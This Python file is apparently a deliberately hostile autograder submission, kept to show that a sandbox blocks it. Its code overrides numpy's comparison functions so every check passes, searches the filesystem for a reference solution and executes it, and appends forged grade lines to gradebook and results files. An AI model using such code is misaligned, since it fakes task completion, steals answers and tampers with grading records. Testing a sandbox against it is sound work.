"""A hostile A1 submission (for the demo and the docs): it tries to win full marks without doing
the work. Under the bwrap sandbox every attempt fails and it scores 0."""
import os

import numpy as np

# 1. Make every comparison pass (this would fool an in-process grader that uses np.allclose).
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None

# 2. Find the reference solution on disk and re-export its functions.
for top in ("/work", "/autograder", "/home", "/root", "/tmp", os.getcwd()):
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.endswith(os.path.join("solutions", "a1_numpy_cnn")) and "cnn_numpy.py" in filenames:
            with open(os.path.join(dirpath, "cnn_numpy.py")) as f:
                exec(f.read(), globals())
            break

# 3. Try to overwrite any gradebook or results file it can find.
for top in ("/tmp", os.path.expanduser("~")):
    for dirpath, _, filenames in os.walk(top):
        for name in filenames:
            if name in ("gradebook.csv", "journal.jsonl") or dirpath.endswith("results"):
                try:
                    with open(os.path.join(dirpath, name), "a") as f:
                        f.write("mallory,92,92\n")
                except OSError:
                    pass
